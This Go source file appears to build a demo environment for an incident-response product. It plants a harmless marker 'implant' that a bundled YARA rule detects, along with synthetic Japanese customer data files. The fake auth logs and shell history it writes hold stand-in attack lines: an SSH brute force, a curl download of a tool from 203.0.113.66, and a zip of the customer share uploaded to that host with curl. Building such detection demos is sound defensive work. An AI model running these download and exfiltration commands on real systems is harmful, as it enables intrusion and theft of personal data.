package demo

import (
	"archive/zip"
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/text/encoding/japanese"
	_ "modernc.org/sqlite" // the customer database planted on a PC
)

// Marker is the harmless test "malware": a file carrying this string is
// what the bundled YARA rule finds, as EICAR is for anti-virus.
const Marker = "MAMORI-DEMO-HARMLESS-MALWARE-MARKER-7f3a"

// Rule is the bundled YARA rule; its score opens an incident and isolates
// the host under the demo's policies.
const Rule = `rule mamori_demo_implant : implant {
  meta:
    description = "mamori demo: harmless implant marker"
    score = 90
  strings:
    $m = "` + Marker + `"
  condition:
    $m
}`

// host is one simulated corporate PC.
type host struct {
	Name string
	Addr string // the address other PCs' logs know it by
	Root string // its directory tree
	// Scan are the directories its agent scans; Logs the logs it reads.
	Scan, Logs []string
}

// plantFleet lays out n PCs under dir. pc-01 is entered from outside,
// pc-02 is reached from pc-01 and its customer share is zipped and sent
// out. Both carry the implant; every PC has a little ordinary content.
func plantFleet(dir string, n int, ps []person, now time.Time) ([]host, error) {
	var hosts []host
	for i := 1; i <= n; i++ {
		h := host{Name: fmt.Sprintf("pc-%02d", i), Addr: fmt.Sprintf("10.20.0.%d", 10+i), Root: filepath.Join(dir, "hosts", fmt.Sprintf("pc-%02d", i))}
		home := filepath.Join(h.Root, "home", "user")
		h.Scan = []string{home}
		h.Logs = []string{filepath.Join(h.Root, "var", "log", "auth.log"), filepath.Join(home, ".bash_history")}
		if err := write(filepath.Join(home, "Documents", "memo.txt"), []byte("週次定例の議事録\n"), now.Add(-72*time.Hour)); err != nil {
			return nil, err
		}
		if err := write(h.Logs[0], []byte(""), now.Add(-72*time.Hour)); err != nil {
			return nil, err
		}
		hosts = append(hosts, h)
	}
	if n < 2 {
		return hosts, nil
	}
	a, b := &hosts[0], &hosts[1]
	share := filepath.Join(b.Root, "srv", "share")
	b.Scan = append(b.Scan, share)

	// The intrusion, dated on the day before the demo: brute force on
	// pc-01, then a tool dropped; from pc-01 into pc-02.
	day := now.Add(-24 * time.Hour).UTC()
	stamp := func(t time.Time) string { return t.Format("Jan _2 15:04:05") }
	var auth strings.Builder
	t := day.Add(-2 * time.Hour)
	for i := range 12 {
		fmt.Fprintf(&auth, "%s %s sshd[%d]: Failed password for root from 203.0.113.66 port %d ssh2\n", stamp(t), a.Name, 4100+i, 50100+i)
		t = t.Add(20 * time.Second)
	}
	fmt.Fprintf(&auth, "%s %s sshd[4200]: Accepted password for deploy from 203.0.113.66 port 51999 ssh2\n", stamp(t), a.Name)
	t = t.Add(5 * time.Minute)
	fmt.Fprintf(&auth, "%s %s sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/.cache/upd http://203.0.113.66/upd\n", stamp(t), a.Name)
	if err := write(a.Logs[0], []byte(auth.String()), day); err != nil {
		return nil, err
	}
	t = t.Add(15 * time.Minute)
	if err := write(b.Logs[0], []byte(fmt.Sprintf("%s %s sshd[900]: Accepted publickey for deploy from %s port 40222 ssh2\n", stamp(t), b.Name, a.Addr)), day); err != nil {
		return nil, err
	}

	// The implant on both.
	for _, h := range []*host{a, b} {
		if err := write(filepath.Join(h.Root, "home", "user", ".cache", "upd"), []byte("\x7fELF...."+Marker+"....\n"), day); err != nil {
			return nil, err
		}
	}

	// Customer data: pc-01 holds an export of the first people; pc-02's
	// share holds the rest in Shift_JIS CSV, an xlsx and a SQLite
	// database, overlapping, so that the register has to de-duplicate.
	l := layoutOf(len(ps))
	if err := write(filepath.Join(a.Root, "home", "user", "Documents", "customers_2024.csv"), csvOf(ps[:l.export], false), day.Add(-30*24*time.Hour)); err != nil {
		return nil, err
	}
	cust := filepath.Join(share, "customers")
	if err := write(filepath.Join(cust, "顧客一覧_sjis.csv"), csvOf(ps[l.sjis:], true), day.Add(-30*24*time.Hour)); err != nil {
		return nil, err
	}
	x, err := xlsxOf(ps[l.xlsx:])
	if err != nil {
		return nil, err
	}
	if err := write(filepath.Join(cust, "vip.xlsx"), x, day.Add(-30*24*time.Hour)); err != nil {
		return nil, err
	}
	if err := sqliteOf(filepath.Join(cust, "crm.db"), ps[:l.crm]); err != nil {
		return nil, err
	}
	// The zip made on pc-02 and sent out with curl.
	zipPath := filepath.Join(share, "c.zip")
	if err := zipDir(zipPath, share, "customers"); err != nil {
		return nil, err
	}
	made := t.Add(10 * time.Minute)
	os.Chtimes(zipPath, made, made)
	hist := fmt.Sprintf("#%d\ncd %s\n#%d\nzip -r c.zip customers\n#%d\ncurl -T %s https://203.0.113.66/upload\n",
		made.Add(-time.Minute).Unix(), share, made.Unix(), made.Add(3*time.Minute).Unix(), zipPath)
	if err := write(b.Logs[1], []byte(hist), day); err != nil {
		return nil, err
	}
	return hosts, nil
}

// layout says which generated people each customer file holds: pc-01's
// export the first l.export; pc-02's share the Shift_JIS CSV from l.sjis
// on, the xlsx from l.xlsx on and the SQLite database the first l.crm.
type layout struct{ export, sjis, xlsx, crm int }

func layoutOf(n int) layout {
	return layout{export: n * 7 / 12, sjis: n * 5 / 12, xlsx: n * 10 / 12, crm: n * 3 / 12}
}

// zipped is how many people the share's files, and so the zip made of
// them and taken, hold: the database's first ones and the CSV's last ones
// (the xlsx's are among the CSV's).
func (l layout) zipped(n int) int { return min(l.crm, l.sjis) + n - l.sjis }

func write(path string, b []byte, mtime time.Time) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		return err
	}
	return os.Chtimes(path, mtime, mtime)
}

var header = []string{"顧客ID", "氏名", "フリガナ", "メールアドレス", "電話番号", "郵便番号", "住所", "生年月日"}

func row(p person) []string {
	return []string{p.ID, p.Name(), p.Kana(), p.Email, p.Phone, p.Postal, p.Address, p.Birth}
}

func csvOf(ps []person, sjis bool) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(header)
	for _, p := range ps {
		w.Write(row(p))
	}
	w.Flush()
	if !sjis {
		return b.Bytes()
	}
	out, err := japanese.ShiftJIS.NewEncoder().Bytes(b.Bytes())
	if err != nil {
		panic(err) // the generator's names and addresses are all in JIS X 0208
	}
	return out
}

// masterCSV is the company's own customer master: everyone, with the
// language the notice is written in.
func masterCSV(ps []person) []byte {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{"顧客ID", "氏名", "メールアドレス", "電話番号", "郵便番号", "住所", "生年月日", "言語"})
	for _, p := range ps {
		w.Write([]string{p.ID, p.Name(), p.Email, p.Phone, p.Postal, p.Address, p.Birth, p.Language})
	}
	w.Flush()
	return b.Bytes()
}

// xlsxOf writes a minimal workbook: one sheet of inline strings.
func xlsxOf(ps []person) ([]byte, error) {
	var sheet strings.Builder
	sheet.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	rows := [][]string{header}
	for _, p := range ps {
		rows = append(rows, row(p))
	}
	for i, r := range rows {
		fmt.Fprintf(&sheet, `<row r="%d">`, i+1)
		for j, v := range r {
			fmt.Fprintf(&sheet, `<c r="%c%d" t="inlineStr"><is><t>%s</t></is></c>`, 'A'+j, i+1, xmlEscape(v))
		}
		sheet.WriteString(`</row>`)
	}
	sheet.WriteString(`</sheetData></worksheet>`)
	files := []struct{ name, body string }{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="VIP" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", sheet.String()},
	}
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, f := range files {
		w, err := zw.Create(f.name)
		if err != nil {
			return nil, err
		}
		w.Write([]byte(f.body))
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}

func xmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
}

func sqliteOf(path string, ps []person) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	db, err := sql.Open("sqlite", path)
	if err != nil {
		return err
	}
	defer db.Close()
	ctx := context.Background()
	if _, err := db.ExecContext(ctx, `CREATE TABLE customers (id TEXT PRIMARY KEY, name TEXT, email TEXT, phone TEXT, postal_code TEXT, address TEXT, birth_date TEXT)`); err != nil {
		return err
	}
	tx, err := db.BeginTx(ctx, nil)
	if err != nil {
		return err
	}
	for _, p := range ps {
		if _, err := tx.ExecContext(ctx, `INSERT INTO customers VALUES (?, ?, ?, ?, ?, ?, ?)`, p.ID, p.Name(), p.Email, p.Phone, p.Postal, p.Address, p.Birth); err != nil {
			tx.Rollback()
			return err
		}
	}
	return tx.Commit()
}

// zipDir zips dir/sub into path, members named sub/....
func zipDir(path, dir, sub string) error {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	err := filepath.WalkDir(filepath.Join(dir, sub), func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		w, err := zw.Create(filepath.ToSlash(rel))
		if err != nil {
			return err
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		_, err = w.Write(data)
		return err
	})
	if err != nil {
		return err
	}
	if err := zw.Close(); err != nil {
		return err
	}
	return os.WriteFile(path, b.Bytes(), 0o644)
}
